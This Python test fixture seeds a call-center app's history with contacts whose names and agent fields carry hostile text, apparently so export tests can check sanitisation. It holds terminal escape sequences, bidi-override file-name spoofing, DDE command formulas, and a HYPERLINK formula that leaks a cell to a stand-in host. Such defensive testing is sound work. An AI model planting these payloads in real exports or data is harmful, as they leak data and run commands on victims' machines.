"""A home whose history holds text a caller or a provider chose: escape sequences, controls, bidi overrides
and spreadsheet formulas in contact names and agent fields (shared by the command-line and the desktop
export tests, which must print the same cells)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from app.config.settings import AccountSettings, Provider
from app.core.models import CallEvent, CallStatus, Contact, ContactPhone, Direction, EventKind
from app.services.context import Context

T0 = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)

# (call id, client number, contact name, agent) — each name as a hostile contact file or CRM would give it.
HOSTILE = [
    ("C-esc", "+48777888001", "\x1b]0;owned\x07\x1b[2J\x1b[31mEvil\x1b[0m Corp\r\nFAKE ROW\x9b31m", "anna\x1b[5m"),
    ("C-formula", "+48777888002", '=HYPERLINK("http://x.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("C-bidi", "+48777888003", "Invoice \u202egnp.exe\u202c \u2066x\u2069", "-2+3+cmd|' /C calc'!A0"),
    ("C-tab", "+48777888004", "\t=1+1", "+48 (0) formula"),
]
# The Cloud PBX figures of every call: 315 s in all, 37 of them waiting → 278 s of talk (4:38).
DURATION, WAIT, TALK = 315, 37, 278


def fill_home() -> None:
    """An account, one contact per hostile name, one answered call to each (in the test's RINGDESK_HOME)."""
    context = Context.open()
    context.settings.accounts.append(AccountSettings("pbx", Provider.CLOUDPBX, base_url="https://x.megapbx.ru"))
    context.save_settings()
    context = Context.open()
    for i, (call_id, phone, name, agent) in enumerate(HOSTILE):
        context.contacts.upsert(Contact(name=name, phones=[ContactPhone(phone)], source_id=call_id))
        context.calls.ingest(
            CallEvent(
                "pbx",
                call_id,
                EventKind.SUMMARY,
                T0 + timedelta(minutes=i),
                phone=phone,
                status=CallStatus.ANSWERED,
                direction=Direction.IN,
                duration_s=DURATION,
                wait_s=WAIT,
                agent=agent,
            )
        )
    context.close()
